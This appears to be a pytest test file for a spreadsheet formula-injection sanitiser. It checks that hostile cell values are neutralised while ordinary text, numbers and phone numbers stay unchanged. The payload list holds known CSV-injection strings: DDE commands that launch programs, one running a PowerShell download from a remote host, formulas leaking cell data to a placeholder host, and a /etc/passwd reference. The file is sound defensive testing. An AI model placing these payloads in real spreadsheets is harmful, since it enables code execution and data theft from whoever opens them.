from __future__ import annotations

import itertools
import re
import time
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from predictor.lists.cells import safe_cells, safe_text

GOLDEN = Path(__file__).parents[1] / "golden"

# Ways around a guard, from public reports (HackerOne 72785, contextis); published lists below.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C notepad'!A0",
    "=2+5+cmd|' /C calc'!A0",
    'DDE|x=1;=DDE("cmd";"/C calc";"1")',
    '=DDE("cmd";"/C calc";"!A0A")A0',
    "=10+20+cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    '=HYPERLINK("https://example.test?leak="&A1&A2,"Error: click")',
    '=WEBSERVICE("http://example.test/"&A2)',
    '=IMPORTXML(CONCAT("http://example.test?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=IMPORTHTML("http://example.test","table",1)',
    '=IMAGE("https://example.test/i.png?x="&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "   \t =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x1f@SUM(1)",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    "\ufe661+1",
    "\u22121+1",
    " \uff1dcmd|' /C calc'!A0",
    "%0A=1+1",
    "|cmd",
    "-5+cmd|' /C calc'!A0",
    "+33 6 12 34 56 78+cmd|' /C calc'!A0",
    "+a|'/C calc'!A0@example.com",
    "+SUM(A1)@example.com",
    "-5\n=1+1",
    "-1e5e5",
    "- =1+1",
]

PUBLISHED = [
    payload
    for published in yaml.safe_load((GOLDEN / "formula_payloads.yaml").read_text("utf-8"))
    for payload in published["payloads"]
]

HARMLESS = [
    "",
    "Ana Dupont",
    "a=b",
    "3 - 2",
    "a+b@example.com",
    "-5",
    "-5.25",
    "-5,25",
    "+3.2e4",
    "-1e-05",
    "-.5",
    "-1 234,56",
    "-1\u202f234,56",
    "-1.234.567,89",
    "-5%",
    "- 5",
    "+33612345678",
    "+33 6 12 34 56 78",
    "+33.6.12.34.56.78",
    "+44 (0) 20 7946 0000",
    "+sales@example.com",
    "-ana.dupont@mail.example.co.uk",
    "-",
    "---",
    "Asked for a quote 3 days ago: +12 points",
    "Élodie; négociation",
    "'quoted",
    "I said: =1",
]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("payload", PUBLISHED)
def test_published_payloads_are_disarmed(payload, separator):
    safe = safe_text(payload, separator)
    assert not _is_armed(safe)
    assert safe.replace("'", "") == payload.replace("\r", "\n").replace("'", "")


def test_what_follows_a_comma_begins_a_cell_only_where_commas_do_not_separate():
    text = "Dupont, =1+1"
    assert safe_text(text) == safe_text(text, ",") == text
    assert safe_text(text, ";") == safe_text(text, "\t") == "Dupont,' =1+1"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_disarmed_and_stay_readable(payload):
    safe = safe_text(payload)
    assert _is_armed(payload)
    assert not _is_armed(safe)
    in_lines = payload.replace("\r\n", "\n").replace("\r", "\n")
    assert safe.replace("'", "") == in_lines.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert safe_text(text) == text


def test_a_hyphenated_telephone_number_is_kept_from_being_a_subtraction():
    assert safe_text("+1-555-0100") == "'+1-555-0100"


@given(st.text(alphabet="=+-@\uff1d\uff20|%;\t\r\n \u200b\u00a0'\"a1.,()", max_size=12))
def test_no_text_runs_once_safe(text):
    safe = safe_text(text)
    assert not _is_armed(safe) or (safe == text and _calls_nothing(text))
    assert "\r" not in safe


@given(st.lists(st.text(alphabet="=-;\n \u200ba1", max_size=6) | st.none(), max_size=20))
def test_whole_columns_get_what_single_cells_get(texts):
    expected = [safe_text(text) if text is not None else None for text in texts]
    for dtype in ("str", "string[python]", "object"):
        column = safe_cells(pd.DataFrame({"x": pd.Series(texts, dtype=dtype)}))["x"]
        assert [None if pd.isna(value) else value for value in column] == expected
        assert column.dtype == dtype or dtype == "object"  # noqa: PLR1714 - a type is not a name


def test_only_text_is_touched():
    frame = pd.DataFrame(
        {
            "number": [-5.0, 2.0],
            "whole": [-1, 1],
            "flag": [True, False],
            "at": pd.to_datetime(["2024-01-01", None]),
            "mixed": pd.Series(["=1", -3], dtype="object"),
            "kind": pd.Categorical(["=1", "b"]),
            "text": ["@a", None],
            "=header": ["a", "b"],
        }
    )
    before = frame.copy()
    safe = safe_cells(frame)
    pd.testing.assert_frame_equal(frame, before)
    same = ["number", "whole", "flag", "at"]
    pd.testing.assert_frame_equal(safe[same], frame[same])
    assert safe["mixed"].tolist() == ["'=1", -3]
    assert safe["kind"].tolist() == ["'=1", "b"]
    assert safe["text"].tolist()[0] == "'@a"
    assert safe["text"].isna().tolist() == [False, True]
    assert list(safe.columns)[-1] == "'=header"


def test_hostile_lengths_take_no_time():
    started = time.perf_counter()
    for unit in ("\n", " ", ";", "-", "+1 ", "+a.", "\n ", "-@."):
        safe_text(unit * 100_000 + "!")
    assert time.perf_counter() - started < 2


def _is_armed(text: str) -> bool:
    """An independent reading of the rule, by Unicode properties and not by lists of characters."""
    pieces = [text, *(text[i + 1 :] for i, c in enumerate(text) if c in ";\t\r\n")]
    return text[:1] in ("\t", "\r", "\n") or any(map(_begins_a_formula, pieces))


def _begins_a_formula(piece: str) -> bool:
    visible = itertools.dropwhile(lambda c: unicodedata.category(c)[0] in "CZ", piece)
    first = unicodedata.normalize("NFKC", next(visible, ""))
    return first in ("=", "+", "-", "@", "|", "%", "\N{MINUS SIGN}")


def _calls_nothing(text: str) -> bool:
    """One sign before digits, dashes alone, or an address: neither arithmetic nor a reference."""
    number = set(text[1:]) <= set("0123456789.,() \u00a0%")
    dashes = set(text) <= {"-"}
    address = re.fullmatch(r"[+-][a1.+-]+@[a1.-]+", text)
    return number or dashes or address is not None
